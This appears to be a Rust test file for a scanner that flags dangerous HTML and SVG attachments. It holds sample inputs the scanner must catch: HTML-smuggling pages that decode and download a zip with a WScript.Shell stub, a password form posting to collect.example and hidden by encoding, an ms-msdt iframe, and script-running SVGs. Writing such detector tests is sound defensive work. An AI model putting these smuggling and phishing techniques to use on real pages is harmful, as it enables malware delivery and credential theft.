//! Pages and pictures in SVG.

use base64::Engine;
use pollwarden_payload::{ActKind::*, Audience};

use crate::build::*;
use crate::{fires, look, quiet};

fn encode(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// A zip that is long enough to be worth hiding.
fn hidden_zip() -> String {
    let noise: Vec<u8> = (0..3_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    encode(&zipped(&[("run.js", b"new ActiveXObject('WScript.Shell')"), ("n.bin", &noise)]))
}

#[test]
fn pages_that_put_a_file_together() {
    let zip = hidden_zip();
    let page = format!(
        "<html><script>var b=atob('{zip}');var f=new Blob([b]);a.href=URL.createObjectURL(f);a.click();</script></html>"
    );
    let found = fires("a.html", page.as_bytes(), &[HtmlSmuggling, Script]);
    assert!(found.walk().any(|file| file.name == "run.js"));
    fires(
        "a.html",
        format!("<a download=\"a.zip\" href=\"data:application/zip;base64,{zip}\">x</a>").as_bytes(),
        &[HtmlSmuggling],
    );
    let bytes = zipped(&[("run.js", b"new ActiveXObject('WScript.Shell')")]);
    let list = bytes.iter().map(u8::to_string).collect::<Vec<_>>().join(",");
    let pieces = zip
        .as_bytes()
        .chunks(60)
        .map(|piece| format!("'{}'", std::str::from_utf8(piece).unwrap()))
        .collect::<Vec<_>>()
        .join("+");
    fires("a.html", format!("<html><script>var s={pieces};save(atob(s))</script>").as_bytes(), &[HtmlSmuggling]);
    fires(
        "a.html",
        format!("<html><script>var s=\"[{list}]\";new Uint8Array(JSON.parse(s))</script>").as_bytes(),
        &[HtmlSmuggling],
    );
    fires("a.svg", format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>var b=atob('{zip}');navigator.msSaveOrOpenBlob(b)</script></svg>").as_bytes(), &[HtmlSmuggling]);
}

#[test]
fn pages_that_ask_for_a_password() {
    let page = "<html><form action=\"https://collect.example/p.php\"><input name=u><input type=PassWord></form></html>";
    let found = fires("a.htm", page.as_bytes(), &[CredentialForm]);
    assert!(found.acts[0].shown.contains("hxxps://collect[.]example/p.php"));
    assert_eq!(found.indicators().domains, ["collect.example"]);
    let escaped: String = page.bytes().map(|byte| format!("%{byte:02x}")).collect();
    fires(
        "a.html",
        format!("<html><script>document.write(unescape('{escaped}'))</script></html>").as_bytes(),
        &[CredentialForm],
    );
    fires(
        "a.html",
        format!("<html><script>document.write(atob('{}'))</script></html>", encode(page.as_bytes())).as_bytes(),
        &[CredentialForm],
    );
}

#[test]
fn pages_that_send_their_reader_on() {
    fires("a.html", b"<html><meta http-equiv=refresh content=\"0; url=https://a.example/\"></html>", &[ExternalLink]);
    fires("a.html", b"<html><iframe src=\"ms-msdt:/id PCWDiagnostic\"></iframe></html>", &[ExternalLink]);
    let found = look("a.html", b"<html><script>window.location.href = \"https://a.example/x\";</script></html>");
    assert!(found.has(ExternalLink) && found.links[0].url == "https://a.example/x");
}

#[test]
fn newsletters_are_quiet() {
    let pixel = encode(&encoded(logo(60, 60), image::ImageFormat::Png));
    let page = format!(
        "<!DOCTYPE html><html><head><style>p{{}}</style><script>dataLayer=[];gtag('js',new Date());</script></head><body><a href=\"https://county.example/vote?id=1\">Vote</a>\
         <img src=\"data:image/png;base64,{pixel}\"><form action=\"https://county.example/search\"><input type=search></form></body></html>"
    );
    let found = quiet("news.html", page.as_bytes());
    assert!(found.links.iter().any(|link| link.url == "https://county.example/vote?id=1"));
    quiet("seal.svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>");
}

#[test]
fn pictures_that_run_scripts() {
    let found = fires(
        "a.svg",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"location='https://a.example/'\"/>",
        &[Script],
    );
    assert_eq!(found.audience(), Some(Audience::Clerk));
}
